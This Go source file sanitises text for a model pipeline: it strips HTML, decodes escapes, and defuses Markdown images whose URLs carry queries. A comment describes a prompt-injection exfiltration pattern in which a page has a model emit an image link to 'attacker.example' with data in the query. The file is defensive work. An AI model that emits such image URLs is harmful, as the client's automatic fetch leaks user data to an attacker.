package boundary

import (
	"regexp"
	"strings"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// stripMarkup returns the text of s read as an HTML fragment: the text
// tokens, their character references decoded once, without tags, comments
// (CDATA sections included, as HTML reads them), doctypes, or the content
// of elements that are not rendered. A br or a block-level element becomes
// a space, so that "a<br>b" reads "a b" while "<b>Go</b>lang" reads
// "Golang".
func stripMarkup(s string) string {
	if !strings.ContainsAny(s, "<&") {
		return s
	}
	z := html.NewTokenizer(strings.NewReader(s))
	var b strings.Builder
	b.Grow(len(s))
	hidden := false // the text token after a start tag of a hidden element
	for {
		tt := z.Next()
		switch tt {
		case html.ErrorToken: // io.EOF: the reader is a string
			return b.String()
		case html.TextToken:
			if !hidden {
				b.Write(z.Text())
			}
		case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
			name, _ := z.TagName()
			a := atom.Lookup(name)
			if blockLevel[a] {
				b.WriteByte(' ')
			}
			hidden = tt != html.EndTagToken && rawHidden[a]
			continue
		}
		hidden = false
	}
}

// rawHidden are the elements whose content the tokenizer reads as raw text
// and a browser does not render (with scripting on).
var rawHidden = map[atom.Atom]bool{
	atom.Script: true, atom.Style: true, atom.Noscript: true,
	atom.Iframe: true, atom.Noembed: true, atom.Noframes: true,
}

// blockLevel are the elements that separate words: line breaks, block and
// table elements.
var blockLevel = map[atom.Atom]bool{
	atom.Br: true, atom.Hr: true, atom.P: true, atom.Div: true, atom.Li: true,
	atom.Ul: true, atom.Ol: true, atom.Dl: true, atom.Dt: true, atom.Dd: true,
	atom.Table: true, atom.Tr: true, atom.Td: true, atom.Th: true,
	atom.Caption: true, atom.Blockquote: true, atom.Pre: true,
	atom.H1: true, atom.H2: true, atom.H3: true, atom.H4: true, atom.H5: true, atom.H6: true,
	atom.Section: true, atom.Article: true, atom.Header: true, atom.Footer: true,
	atom.Nav: true, atom.Aside: true, atom.Main: true, atom.Figure: true,
	atom.Figcaption: true, atom.Address: true, atom.Details: true, atom.Summary: true,
	atom.Img: true,
}

// readThrough returns s as a reader of Markdown or HTML sees it: a
// backslash before ASCII punctuation (a CommonMark escape, which
// front/extract's converter writes before "_", "[", "*"...) is dropped and
// the punctuation kept as it is, and each character reference is decoded
// once, its name read case-insensitively ("&LT;", "&Lt;" and "&lt;" all
// read "<"), so that "&lt;|im\_start|&gt;" reads "<|im_start|>". It returns
// s itself when s holds neither '\' nor '&'. Linear in len(s).
func readThrough(s string) string {
	if !strings.ContainsAny(s, `\&`) {
		return s
	}
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); {
		switch c := s[i]; {
		case c == '\\' && i+1 < len(s) && asciiPunct(s[i+1]):
			b.WriteByte(s[i+1])
			i += 2
		case c == '&':
			n := charRefLen(s[i:])
			if n == 0 {
				b.WriteByte(c)
				i++
				continue
			}
			ref := strings.ToLower(s[i : i+n])
			if d := html.UnescapeString(ref); d != ref {
				b.WriteString(d)
			} else {
				b.WriteString(s[i : i+n])
			}
			i += n
		default:
			b.WriteByte(c)
			i++
		}
	}
	return b.String()
}

// asciiPunct reports whether c is ASCII punctuation, which CommonMark lets
// a backslash escape.
func asciiPunct(c byte) bool {
	return '!' <= c && c <= '/' || ':' <= c && c <= '@' || '[' <= c && c <= '`' || '{' <= c && c <= '~'
}

// charRefLen returns the length of the character reference s starts with
// ("&name;", "&#123;", "&#x7B;", the ';' optional as HTML reads legacy
// references), or 0.
func charRefLen(s string) int {
	i, digits, maxLen := 1, isAlnum, 32
	switch {
	case strings.HasPrefix(s, "&#x"), strings.HasPrefix(s, "&#X"):
		i, digits, maxLen = 3, isHexDigit, 6
	case strings.HasPrefix(s, "&#"):
		i, digits, maxLen = 2, isDigit, 7
	case len(s) < 2 || !isAlnum(s[1]) || isDigit(s[1]):
		return 0
	}
	start := i
	for i < len(s) && i-start < maxLen && digits(s[i]) {
		i++
	}
	if i == start {
		return 0
	}
	if i < len(s) && s[i] == ';' {
		i++
	}
	return i
}

func isDigit(c byte) bool    { return '0' <= c && c <= '9' }
func isHexDigit(c byte) bool { return isDigit(c) || 'a' <= c && c <= 'f' || 'A' <= c && c <= 'F' }
func isAlnum(c byte) bool    { return isDigit(c) || 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' }

// InertImages makes every Markdown image whose destination carries a query
// an inert link, and returns the Markdown and how many images it changed.
// An image a Markdown client renders is fetched by the client without
// anyone's action, and a query on its URL is how a page asks the model to
// send data away ("![](https://attacker.example/?d=…)", an exfiltration
// shape): "![alt](https://x/?d=1)" becomes "[alt](https://x/?d=1)", a link
// that is fetched only when followed. The URL and the alternative text
// stay, so nothing but the "!" goes: one character per image.
//
// An image is an unescaped "![" with its closing bracket (nested brackets
// and escapes counted), followed by an inline destination or by a
// reference whose definition ("[label]: url") is in md. Held as having a
// query, on the safe side: a destination with a '?' before its end (white
// space, or the ')' that closes it), one written in angle brackets, one
// with a ']' before its end, an image whose bracket never closes, and a
// reference whose definition's URL has a '?' or angle brackets. Images in
// code spans and code blocks are changed too: there the "!" only was
// text, and a code fence is not always what it seems (inside an HTML
// block it is text). Linear in len(md).
func InertImages(md string) (string, int) {
	if !strings.Contains(md, "![") {
		return md, 0
	}
	images := imageBrackets(md)
	if len(images) == 0 {
		return md, 0
	}
	queried := queriedDefinitions(md)
	var b strings.Builder
	b.Grow(len(md))
	last, n := 0, 0
	for _, im := range images {
		if im.close >= 0 && !imageQueried(md, im.open, im.close, queried) {
			continue
		}
		b.WriteString(md[last : im.open-1]) // up to the "!"
		last = im.open
		n++
	}
	if n == 0 {
		return md, 0
	}
	b.WriteString(md[last:])
	return b.String(), n
}

// bracket is an image's "[" and its matching "]", or -1 when it has none.
type bracket struct{ open, close int }

// imageBrackets returns the brackets of md's images (an unescaped "!"
// right before an unescaped "["), in the order of their "[".
func imageBrackets(md string) []bracket {
	var images []bracket
	var stack []int // open brackets: index into images, or -1 for a link's
	for i := 0; i < len(md); i++ {
		switch md[i] {
		case '\\':
			i++ // the escaped character is text
		case '[':
			if i > 0 && md[i-1] == '!' && !escaped(md, i-1) {
				stack = append(stack, len(images))
				images = append(images, bracket{i, -1})
			} else {
				stack = append(stack, -1)
			}
		case ']':
			if len(stack) == 0 {
				continue
			}
			if k := stack[len(stack)-1]; k >= 0 {
				images[k].close = i
			}
			stack = stack[:len(stack)-1]
		}
	}
	return images
}

// escaped reports whether md[i] follows an odd run of backslashes.
func escaped(md string, i int) bool {
	n := 0
	for i > 0 && md[i-1] == '\\' {
		n++
		i--
	}
	return n%2 == 1
}

// imageQueried reports whether the image bracketed by open and close has
// a destination held as carrying a query (see InertImages).
func imageQueried(md string, open, close int, queried map[string]bool) bool {
	rest := md[close+1:]
	switch {
	case strings.HasPrefix(rest, "("):
		return destinationQueried(rest[1:])
	case len(queried) == 0:
		return false
	case strings.HasPrefix(rest, "[]"):
		return queried[label(md[open+1:close])]
	case strings.HasPrefix(rest, "["):
		end := strings.IndexByte(rest, ']')
		return end < 0 || queried[label(rest[1:end])]
	}
	return queried[label(md[open+1:close])]
}

// destinationQueried reads an inline destination from its start: a '?'
// before its end (white space, or the ')' that closes it), angle
// brackets, or a ']' (which ends the scan, so that scans do not overlap)
// hold it as queried.
func destinationQueried(s string) bool {
	s = strings.TrimLeft(s, " \t")
	s = strings.TrimPrefix(s, "\n")
	s = strings.TrimLeft(s, " \t")
	if strings.HasPrefix(s, "<") {
		return true
	}
	depth := 0
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '?', ']':
			return true
		case ' ', '\t', '\n', '\r', '\f':
			return false
		case '\\':
			i++
		case '(':
			depth++
		case ')':
			if depth == 0 {
				return false
			}
			depth--
		}
	}
	return false
}

// rxDefinition matches a link reference definition's label and URL; the
// line may start inside block quotes and list items.
var rxDefinition = regexp.MustCompile(`(?m)^[ \t>]*\[((?:[^\[\]\\\n]|\\.)+)\]:[ \t]*\n?[ \t>]*(\S+)`)

// queriedDefinitions returns the labels (see label) of md's reference
// definitions whose URL has a '?' or is written in angle brackets.
func queriedDefinitions(md string) map[string]bool {
	if !strings.Contains(md, "]:") {
		return nil
	}
	var out map[string]bool
	for _, m := range rxDefinition.FindAllStringSubmatch(md, -1) {
		if strings.ContainsAny(m[2], "?<") {
			if out == nil {
				out = map[string]bool{}
			}
			out[label(m[1])] = true
		}
	}
	return out
}

// label normalizes a reference label as CommonMark matches it: case
// folded, white space collapsed. A text longer than CommonMark's 999
// characters is no label: it gives "", which no definition has (and
// nested images cost no more than that to read).
func label(s string) string {
	if len(s) > maxLabel {
		return ""
	}
	return strings.ToLower(strings.Join(strings.Fields(s), " "))
}

// maxLabel bounds a reference label, in bytes (CommonMark: 999 characters).
const maxLabel = 999
